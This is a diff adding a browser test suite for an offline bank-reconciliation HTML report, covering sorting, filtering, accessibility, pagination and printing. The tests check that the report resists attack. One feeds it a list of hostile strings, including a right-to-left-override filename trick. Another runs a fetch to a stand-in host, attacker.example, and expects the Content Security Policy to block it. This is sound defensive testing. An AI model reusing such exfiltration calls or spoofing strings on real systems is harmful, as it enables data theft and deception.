@@ -1,0 +1,184 @@
+/** The report of a reconciliation in a browser: it needs no network, sorts and filters, prints whole, and no text in it does anything. */
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { Browser, BrowserContextOptions } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { Finding } from '../../src/reconcile/finding.js';
+import {
+  reportBeginning,
+  reportEnd,
+  reportFinding,
+  REPORT_FINDINGS_MAX,
+} from '../../src/reconcile/report/document.js';
+import { shownFinding } from '../../src/reconcile/shown.js';
+import { readAsset } from '../../src/runtime/asset.js';
+import { findingOf, HOSTILE, lineOf, operationOf, resultOf } from '../reconcile/given.js';
+import { foundByAxe } from './axe.js';
+import { CHROMIUM, openBrowser, openTab, type Tab } from './browser.js';
+
+const PAGE_ROWS = 100;
+const partOf = (name: string): string => Buffer.from(readAsset(name)).toString('utf8');
+const parts = { script: partOf('report.js'), style: partOf('report.css') };
+
+function documentOf(findings: readonly Finding[], leftOut = 0): string {
+  const facts = [
+    ['File', 'bank.csv'],
+    ['Until', HOSTILE.join(' ')],
+  ] as const;
+  return [
+    reportBeginning(`Reconciliation of ${HOSTILE.join(' ')}`, facts, resultOf(), parts),
+    ...findings.map((finding, at) =>
+      reportFinding(shownFinding(finding, { where: [], hasNegatives: false }), at === 0),
+    ),
+    reportEnd(leftOut, parts),
+  ].join('');
+}
+
+const AMOUNTS = ['9.50', '10.00', '1000.00', '2.00'];
+
+/** One of each of four classes, with amounts whose texts stand in another order than their numbers. */
+const FEW = (['ambiguous', 'amount_differs', 'pending', 'only_here'] as const).map((kind, at) =>
+  findingOf(kind, {
+    here: [lineOf({ line: at + 2, reference: `ref-${String(at)}`, amount: AMOUNTS[at]! })],
+    there: kind === 'only_here' ? [] : [operationOf({ currency: at === 2 ? 'USD' : 'VES' })],
+  }),
+);
+
+describe.skipIf(CHROMIUM === undefined)('the report (skipped where there is no chromium)', () => {
+  let browser: Browser;
+  let folder: string;
+  beforeAll(async () => {
+    folder = mkdtempSync(join(tmpdir(), 'svc-report-'));
+    browser = await openBrowser();
+  });
+  afterAll(async () => {
+    await browser.close();
+    rmSync(folder, { recursive: true, force: true });
+  });
+
+  async function opened(
+    findings: readonly Finding[],
+    leftOut = 0,
+    how: BrowserContextOptions = {},
+  ): Promise<Tab> {
+    const path = join(folder, 'report.html');
+    writeFileSync(path, documentOf(findings, leftOut));
+    return openTab(browser, `file://${path}`, how);
+  }
+  const column = (tab: Tab, at: number): Promise<string[]> =>
+    tab.page.locator(`.findings tbody tr td:nth-child(${String(at)})`).allInnerTexts();
+
+  it('sorts money as money, either way, and goes back to the worst first', async () => {
+    const tab = await opened(FEW);
+    expect(await column(tab, 1)).toEqual(['ambiguous', 'amount differs', 'pending', 'only here']);
+    await tab.page.getByRole('button', { name: 'Ledger' }).click();
+    expect(await column(tab, 3)).toEqual(['2.00 VES', '9.50 VES', '10.00 VES', '1000.00 VES']);
+    await tab.page.getByRole('button', { name: 'Ledger' }).click();
+    expect(await column(tab, 3)).toEqual(['1000.00 VES', '10.00 VES', '9.50 VES', '2.00 VES']);
+    await tab.page.getByRole('button', { name: 'Class' }).click();
+    expect(await column(tab, 2)).toEqual(['2', '3', '4', '5']);
+    expect(tab.wrong).toEqual([]);
+  });
+
+  it('shows only what is asked for: classes, a currency, a text', async () => {
+    const tab = await opened(FEW);
+    await tab.page.getByLabel('pending').check();
+    await tab.page.getByLabel('only here').check();
+    expect(await column(tab, 1)).toEqual(['pending', 'only here']);
+    await tab.page.getByLabel('Currency').selectOption('USD');
+    expect(await column(tab, 1)).toEqual(['pending']);
+    await tab.page.getByLabel('Currency').selectOption('');
+    await tab.page.getByRole('searchbox', { name: 'Find' }).fill('REF-3');
+    expect(await column(tab, 5)).toEqual(['ref-3']);
+    expect(await tab.page.getByRole('status').innerText()).toBe('1 of 4 findings');
+    await tab.page.getByRole('searchbox', { name: 'Find' }).fill('nowhere');
+    expect(await column(tab, 1)).toEqual([]);
+  });
+
+  it('says that there is nothing to list', async () => {
+    const tab = await opened([]);
+    expect(await tab.page.locator('#list').innerText()).toBe('None.');
+  });
+
+  it.each([
+    ['light', 1280],
+    ['dark', 1280],
+    ['light', 360],
+    ['dark', 360],
+  ] as const)('has nothing that axe finds: %s, %i wide', async (colorScheme, width) => {
+    const tab = await opened(FEW, 7, { colorScheme, viewport: { width, height: 800 } });
+    expect(await foundByAxe(tab.page)).toEqual([]);
+    expect(await tab.page.evaluate('document.documentElement.scrollWidth <= innerWidth')).toBe(true);
+    expect(await tab.page.locator('.left-out').innerText()).toContain('Of 11 findings the first 4');
+  });
+
+  it('lets no text in it do anything, wherever it stands', async () => {
+    const findings = HOSTILE.map((text, at) =>
+      findingOf('amount_differs', {
+        here: [lineOf({ line: at, reference: text, bankReference: text, id: text, date: text })],
+        there: [
+          operationOf({ id: text, reference: text, status: text, bankReference: text, currency: text }),
+        ],
+        tolerances: [text],
+      }),
+    );
+    const tab = await opened(findings);
+    const requests: string[] = [];
+    tab.page.on('request', (request) => requests.push(request.url()));
+    await tab.page.reload();
+    await tab.page.getByRole('button', { name: 'Reference' }).click();
+    expect(await tab.page.evaluate('window.hit')).toBeUndefined();
+    expect(await tab.page.locator('.findings img, .findings svg, .facts img, h1 img').count()).toBe(0);
+    const text = await tab.page.locator('body').innerText();
+    expect(text).toContain('\\u202egnp.exe\\u202c');
+    expect(text).not.toContain('\u202e');
+    for (const inert of HOSTILE.filter((one) => !one.includes('\u202e'))) expect(text).toContain(inert);
+    expect(requests.filter((url) => !url.startsWith('file:'))).toEqual([]);
+    expect(tab.wrong).toEqual([]);
+  });
+
+  it('lets nothing be loaded or sent, even by a script of its own', async () => {
+    const tab = await opened(FEW);
+    const said = await tab.page.evaluate<string>(
+      `fetch('https://attacker.example/').then(() => 'sent', () => 'refused')`,
+    );
+    expect(said).toBe('refused');
+    expect(tab.wrong.join()).toContain('Content Security Policy');
+  });
+
+  it('shows a page at a time of as many as it takes, and prints what is chosen whole', async () => {
+    const many = Array.from({ length: REPORT_FINDINGS_MAX }, (_, at) =>
+      findingOf(at % 2 === 0 ? 'amount_differs' : 'date_differs', {
+        here: [lineOf({ line: at + 2, reference: `inv-${String(at)}`, amount: `${String(at)}.01` })],
+        there: [operationOf({ reference: `inv-${String(at)}` })],
+      }),
+    );
+    const tab = await opened(many);
+    expect(await tab.page.locator('.findings tbody tr').count()).toBe(PAGE_ROWS);
+    expect(await tab.page.getByRole('status').innerText()).toBe('20000 findings, 1 to 100 shown');
+    await tab.page.getByRole('button', { name: 'Next' }).click();
+    expect((await column(tab, 5))[0]).toBe('inv-100');
+    await tab.page.getByRole('button', { name: 'Ledger' }).click();
+    await tab.page.getByRole('button', { name: 'Ledger' }).click();
+    expect((await column(tab, 5))[0]).toBe('inv-19999');
+    await tab.page.getByRole('searchbox', { name: 'Find' }).fill('inv-1999');
+    expect(await tab.page.getByRole('status').innerText()).toBe('11 of 20000 findings');
+    await tab.page.getByRole('searchbox', { name: 'Find' }).fill('inv-19');
+    await tab.page.emulateMedia({ media: 'print' });
+    await tab.page.evaluate('dispatchEvent(new Event("beforeprint"))');
+    const count = await tab.page.locator('.findings tbody tr').count();
+    expect(count).toBe(1111);
+    await tab.page.evaluate('dispatchEvent(new Event("afterprint"))');
+    expect(await tab.page.locator('.findings tbody tr').count()).toBe(PAGE_ROWS);
+    expect(tab.wrong).toEqual([]);
+  });
+
+  it('is printed on paper without what only a screen can do', async () => {
+    const tab = await opened(FEW);
+    await tab.page.emulateMedia({ media: 'print' });
+    expect(await tab.page.locator('.tools').isVisible()).toBe(false);
+    expect(await tab.page.locator('.sums').isVisible()).toBe(true);
+    expect((await tab.page.pdf()).length).toBeGreaterThan(1000);
+  });
+});
